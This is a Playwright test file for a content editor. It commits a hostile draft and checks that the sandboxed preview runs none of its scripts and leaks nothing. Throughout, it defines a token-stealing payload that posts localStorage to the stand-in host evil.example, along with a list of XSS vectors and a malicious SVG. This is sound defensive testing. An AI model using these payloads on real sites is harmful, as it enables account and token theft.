import { expect, type Frame, type Page } from '@playwright/test';
import { stringify } from 'yaml';
import { openForm } from './support/editor';
import { test } from './support/editor-test';
import { onlyInAll } from './support/only-in-all';
import { signIn } from './support/git-host/sign-in';

// It reads the whole repository at each start, and does so on busy machines too.
test.describe.configure({ timeout: 480_000 });

const evil = 'https://evil.example';

/** Tells that it has run, and sends away what the browser keeps for this site, the editor's token too. */
const steal = `top.hostile=1;parent.hostile=1;fetch('${evil}/?'+JSON.stringify(localStorage))`;

/** What runs scripts or sends something where HTML is taken as it stands. */
const html = [
  `<script>${steal}</script>`,
  `<img src="x" onerror="${steal}">`,
  `<svg onload="${steal}"><script>${steal}</script><animate onbegin="${steal}"/></svg>`,
  `<a id="lure" href="javascript:${steal}">Read on</a>`,
  `<a href="data:text/html,<script>${steal}</script>">More</a>`,
  `<iframe srcdoc="<script>${steal}</script>"></iframe>`,
  `<iframe src="javascript:${steal}"></iframe>`,
  `<object data="data:text/html,<script>${steal}</script>"></object>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  `<base href="${evil}/">`,
  `<link rel="stylesheet" href="${evil}/style.css">`,
  `<style>@import url(${evil}/import.css);</style>`,
  `<form action="${evil}/form"><input name="token" autofocus onfocus="${steal}"><button>Send</button></form>`,
  `<details open ontoggle="${steal}">x</details>`,
  `<math><mtext></table></math><img src=x onerror="${steal}">`,
].join('\n');

const markdown = `[Read on](javascript:${steal.replaceAll(/[()]/g, '')})\n\n${html}`;

/** The files of a draft that somebody proposed, by their paths. */
const files: Record<string, unknown> = {
  'content/pages/laboratory.yaml': {
    path: '/Laboratory',
    title: `Laboratory ${html}`,
    menu: 'Academics',
    description:
      'A description of the laboratory that is long enough for search engines, and harmless.',
    reviewed: '2026-10-12',
    draft: true,
    owner: 'Office',
    blocks: [
      { kind: 'prose', text: markdown },
      { kind: 'notice', tone: 'info', text: markdown },
      { kind: 'table', caption: html, columns: [html], rows: [[html]] },
      { kind: 'image', src: `data:text/html,<script>${steal}</script>`, alt: html },
    ],
  },
  'content/service/messages.yaml': [
    { category: 'Principal', name: `Dr. A ${html}`, message: `<p>Dear parents,</p>${html}` },
  ],
  'content/service/news.yaml': [
    {
      title: `News ${html}`,
      date: '1 November 2026',
      description: html,
      images: ['pictures/news/hostile.svg'],
    },
  ],
};

/** In which frames a script of the draft has run. */
async function hostileFrames(page: Page): Promise<string[]> {
  const ran = async (frame: Frame) => frame.evaluate(() => 'hostile' in window).catch(() => false);
  const found: string[] = [];
  for (const frame of page.frames()) if (await ran(frame)) found.push(frame.url());
  return found;
}

test(
  'a hostile draft reaches neither the token of its reader nor anybody else',
  onlyInAll(),
  async ({ page, seen }) => {
    seen.origins.push(
      'https://api.github.com/',
      'https://www.githubstatus.com/',
      'https://avatars.githubusercontent.com/',
    );
    // What takes the texts apart meets these, and the page's policy refuses them; browsers differ in what they tell.
    seen.caused.push(/^Setting the document's base URI to 'https:\/\/evil\.example\/' violates/);
    seen.caused.push(/^Executing inline event handler violates/);
    const sent: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) sent.push(request.url());
    });
    page.on('dialog', (dialog) => void dialog.dismiss());
    await signIn(page, ({ repository }) => {
      const additions = Object.entries(files).map(([path, value]) => ({
        path,
        contents: Buffer.from(stringify(value)),
      }));
      const picture = {
        path: 'content/service/pictures/news/hostile.svg',
        contents: Buffer.from(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
        ),
      };
      repository.commit('main', { additions: [...additions, picture], deletions: [] }, 'Hostile');
    });
    const token = () => page.evaluate(() => JSON.stringify(localStorage).includes('github_pat'));
    expect(await token(), 'a token to be stolen').toBe(true);

    for (const [form, text] of [
      ['pages/entries/laboratory', 'Laboratory'],
      ['lists/entries/service-messages', 'Dear parents'],
      ['lists/entries/service-news', 'News'],
    ] as const) {
      await openForm(page, form);
      const frame = page.locator('iframe[title="Content preview" i]');
      await expect(frame, 'the frame of the preview').toHaveAttribute(
        'sandbox',
        'allow-same-origin',
      );
      const preview = page.frameLocator('iframe[title="Content preview" i]');
      await expect(preview.getByText(text).first()).toBeVisible();
      // A link that was left would be followed by a click.
      for (const link of await preview.locator('a', { hasText: /^(Read on|More)$/ }).all())
        await link.click();
      expect(await hostileFrames(page), form).toEqual([]);
    }
    expect(sent, 'what was sent away').toEqual([]);
    expect(new URL(page.url()).pathname).toMatch(/^\/edit/);
    expect(await token(), 'the token stays').toBe(true);
  },
);
